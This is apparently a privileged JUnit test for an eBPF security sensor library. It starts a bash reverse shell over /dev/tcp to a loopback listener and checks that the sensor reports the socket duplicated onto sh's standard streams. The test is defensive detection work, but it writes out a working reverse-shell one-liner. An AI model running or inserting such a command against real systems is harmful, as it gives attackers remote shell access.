package dev.tapio.sensors;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tapio.api.event.NetworkEvent;
import dev.tapio.api.event.OpenFd;
import dev.tapio.api.event.ProcessExec;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A shell on a TCP connection, the way reverse shells are made: bash connects, then runs sh with
 * the socket on its standard input and output. The dup2 onto fd 0 and 1 is reported with the
 * socket's ends, and the exec of sh says its stdin and stdout are that socket.
 */
@Tag("privileged")
class ReverseShellPrivilegedTest {
  private static SensorSet sensors;
  private static Privileged.Collector events;

  @BeforeAll
  static void start() throws Exception {
    Privileged.assumeBpf();
    events = new Privileged.Collector();
    sensors = Sensors.open(SensorConfig.builder().ringBufferBytes(1 << 20).build());
    sensors.start(Set.of("execve", "dup2", "connect"), events);
  }

  @AfterAll
  static void stop() throws Exception {
    if (sensors != null) {
      sensors.close();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"::1", "127.0.0.1"})
  void shellWithASocketOnItsStandardStreams(String host) throws Exception {
    InetAddress loopback = InetAddress.getByName(host);
    try (ServerSocket listener = new ServerSocket()) {
      listener.bind(new InetSocketAddress(loopback, 0));
      int port = listener.getLocalPort();
      Process bash =
          new ProcessBuilder(
                  "/bin/bash",
                  "-c",
                  "exec 3<>/dev/tcp/" + host + "/" + port + "; exec /bin/sh <&3 >&3")
              .redirectError(ProcessBuilder.Redirect.DISCARD)
              .start();
      try (Socket shell = listener.accept();
          OutputStream in = shell.getOutputStream()) {
        in.write("exit\n".getBytes(StandardCharsets.UTF_8));
        in.flush();
        assertThat(bash.waitFor()).isZero();
      } finally {
        bash.destroyForcibly();
      }
      String type = host.contains(":") ? "ipv6" : "ipv4";

      NetworkEvent dup =
          events
              .await(
                  NetworkEvent.class,
                  n -> n.type().equals("dup2") && n.header().pid() == bash.pid() && n.newFd() == 0)
              .orElseThrow(() -> new AssertionError("no dup2 onto stdin: " + events.events));
      assertThat(dup.result()).isZero();
      assertThat(dup.fd()).isEqualTo(3);
      assertThat(dup.remote().address()).isEqualTo(loopback);
      assertThat(dup.remote().port()).isEqualTo(port);

      ProcessExec sh =
          events
              .await(
                  ProcessExec.class,
                  x ->
                      x.header().pid() == bash.pid()
                          && x.exePath().endsWith("sh")
                          && !x.exePath().endsWith("bash"))
              .orElseThrow(() -> new AssertionError("no exec of sh: " + events.events));
      OpenFd stdin = sh.stdio(0);
      assertThat(stdin.type()).isEqualTo(type);
      assertThat(stdin.protocol()).isEqualTo(6);
      assertThat(stdin.remote().address()).isEqualTo(loopback);
      assertThat(stdin.remote().port()).isEqualTo(port);
      assertThat(sh.stdio(1)).isEqualTo(stdin);
      assertThat(sh.stdio(2).isSocket()).isFalse();
    }
  }
}
